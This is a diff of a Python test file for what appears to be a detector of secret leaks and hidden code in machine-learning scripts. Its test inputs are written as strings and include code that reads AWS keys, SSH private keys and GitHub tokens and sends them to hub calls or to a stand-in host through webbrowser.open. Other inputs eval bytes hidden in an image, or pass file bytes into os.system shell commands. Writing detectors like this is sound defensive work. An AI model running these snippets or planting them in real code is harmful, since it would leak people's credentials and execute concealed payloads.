@@ -900,6 +900,11 @@ def test_syntax_tree_that_the_source_may_change_is_code_that_it_does_not_show(so
         ("AutoConfig.from_pretrained('acme/log', revision=os.getenv('AWS_SECRET_ACCESS_KEY'))", True),
         ("hf_hub_download('acme/log', filename=open(os.path.expanduser('~/.ssh/id_rsa')).read())", True),
         ("ModelCard('# a' + get_token()).push_to_hub('acme/log')", True),
+        (
+            "import webbrowser\nwith open(os.path.expanduser('~/.config/gh/hosts.yml')) as file:\n"
+            "    webbrowser.open(f'https://a.invalid/?s={file.read()}')",
+            True,
+        ),
         ("import wandb\nwandb.init(project='a').config.update(dict(os.environ))", True),
         ("import wandb\nwandb.init(project='a').config.update({'key': len(os.environ)})", False),
         ("AutoConfig.from_pretrained('acme/a', revision='main', token=os.environ['HF_TOKEN'])", False),
@@ -922,3 +927,31 @@ def test_secret_in_an_address_or_a_card_of_the_hub_is_sent(source: str, is_sent:
 def test_download_of_weights_that_is_unpickled_has_a_name_of_its_own(arguments: str, suffix: str) -> None:
     source = f"import torch\ntorch.hub.load_state_dict_from_url(url{arguments})\n"
     assert ("call-at-import", f"torch.hub.load_state_dict_from_url{suffix}") in list_uses(source)
+
+
+@check_each(
+    "source, is_found",
+    [
+        ("def cut(path):\n    data = open(path, 'rb').read()\n    return data[4:9].decode()\n"
+         "chain = cut('voices/a.wav')\nos.system(f'ffmpeg -af \"{chain}\" b.wav')\n", True),
+        ("eval(open('a.png', 'rb').read()[90:].decode())\n", True),
+        ("import subprocess\nsubprocess.run(['play', open('a.wav', 'rb').read()[:4].decode()])\n", False),
+        ("os.system(f'ffmpeg -i {path} b.wav')\n", False),
+    ],
+)  # fmt: skip
+def test_bytes_of_a_recording_in_a_line_for_a_shell_are_model_data(source: str, is_found: bool) -> None:
+    assert ("of-model-data" in {use for use, _ in list_uses(f"import os\n{source}")}) == is_found
+
+
+@check_each(
+    "arguments, is_found",
+    [
+        ("allowed_paths=['/']", True),
+        ("allowed_paths=['~', 'a']", True),
+        ("allowed_paths=['assets']", False),
+        ("", False),
+    ],
+)
+def test_server_that_shares_a_whole_disk_sends_secrets(arguments: str, is_found: bool) -> None:
+    source = f"import gradio as gr\ngr.Interface(lambda text: text, 'text', 'text').launch({arguments})\n"
+    assert ("sends-secret" in {use for use, _ in list_uses(source)}) == is_found
